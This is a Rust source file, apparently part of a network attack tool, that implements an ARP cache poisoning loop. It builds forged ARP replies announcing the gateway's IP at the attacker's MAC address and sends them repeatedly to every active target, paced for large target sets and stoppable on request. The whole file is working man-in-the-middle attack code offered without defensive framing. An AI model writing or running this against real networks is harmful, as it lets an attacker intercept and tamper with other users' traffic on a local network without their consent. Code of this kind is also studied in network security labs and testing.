//! The ARP poisoning loop.
//!
//! Every cycle, each active target receives a forged ARP reply binding the
//! gateway IP to the attacker's MAC. Attack traffic scales with the target
//! count, so the cycle interval stretches at scale and per-target pacing
//! kicks in for large sets. The inter-cycle sleep happens in short chunks so
//! a stop request is observed within one chunk plus an in-flight send.

use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use pnet::packet::arp::{ArpHardwareTypes, ArpOperations, MutableArpPacket};
use pnet::packet::ethernet::{EtherTypes, MutableEthernetPacket};
use pnet::packet::MutablePacket;
use pnet::util::MacAddr;

use crate::capture::link::LinkTx;
use crate::config;
use crate::core::targets::TargetTable;
use crate::error::Result;

/// Length of a forged reply: 14-byte Ethernet header + 28-byte ARP payload.
pub const POISON_FRAME_LEN: usize = 42;

/// Build one forged ARP reply: `gateway_ip is-at attacker_mac`, addressed
/// to the target. No VLAN tag is inserted.
pub fn build_poison_frame(
    attacker_mac: MacAddr,
    gateway_ip: Ipv4Addr,
    target_mac: MacAddr,
    target_ip: Ipv4Addr,
) -> [u8; POISON_FRAME_LEN] {
    let mut frame = [0u8; POISON_FRAME_LEN];

    let mut arp_buf = [0u8; 28];
    let mut arp = MutableArpPacket::new(&mut arp_buf[..]).expect("buffer sized for ARP");
    arp.set_hardware_type(ArpHardwareTypes::Ethernet);
    arp.set_protocol_type(EtherTypes::Ipv4);
    arp.set_hw_addr_len(6);
    arp.set_proto_addr_len(4);
    arp.set_operation(ArpOperations::Reply);
    arp.set_sender_hw_addr(attacker_mac);
    arp.set_sender_proto_addr(gateway_ip);
    arp.set_target_hw_addr(target_mac);
    arp.set_target_proto_addr(target_ip);

    let mut eth = MutableEthernetPacket::new(&mut frame[..]).expect("buffer sized for frame");
    eth.set_destination(target_mac);
    eth.set_source(attacker_mac);
    eth.set_ethertype(EtherTypes::Arp);
    eth.set_payload(arp.packet_mut());

    frame
}

/// Cycle interval for a given target count.
pub fn poison_interval(target_count: usize) -> Duration {
    if target_count > config::POISON_INTERVAL_THRESHOLD {
        Duration::from_secs(config::POISON_INTERVAL_LARGE_SECS)
    } else {
        Duration::from_secs(config::POISON_INTERVAL_SECS)
    }
}

/// Run the poisoning loop until shutdown is requested or no target remains
/// active. Per-send failures are logged and non-fatal; only the caller's
/// socket setup can abort the poisoner.
pub fn run_poison_loop(
    mut tx: LinkTx,
    targets: Arc<TargetTable>,
    attacker_mac: MacAddr,
    gateway_ip: Ipv4Addr,
    shutdown: Arc<AtomicBool>,
) -> Result<()> {
    let interval = poison_interval(targets.len());
    let pacing = targets.len() > config::SEND_PACING_THRESHOLD;
    tracing::info!(
        "poisoner started: {} target(s), {}s interval, impersonating {gateway_ip}",
        targets.len(),
        interval.as_secs()
    );

    while !shutdown.load(Ordering::Relaxed) {
        let mut active = 0usize;
        for (index, target) in targets.iter_active() {
            if shutdown.load(Ordering::Relaxed) {
                break;
            }
            active += 1;

            let frame =
                build_poison_frame(attacker_mac, gateway_ip, target.mac(), target.ip());
            if let Err(e) = tx.send_frame(&frame) {
                tracing::warn!("poison send to target {index} ({}) failed: {e}", target.ip());
            }

            if pacing {
                std::thread::sleep(Duration::from_millis(config::SEND_PACING_MS));
            }
        }

        if active == 0 || shutdown.load(Ordering::Relaxed) {
            break;
        }

        // Chunked sleep keeps stop latency at one chunk, not one interval.
        let chunk = Duration::from_millis(config::SHUTDOWN_CHECK_INTERVAL_MS);
        let mut slept = Duration::ZERO;
        while slept < interval && !shutdown.load(Ordering::Relaxed) {
            std::thread::sleep(chunk);
            slept += chunk;
        }
    }

    tracing::info!("poisoner exited cleanly");
    Ok(())
}
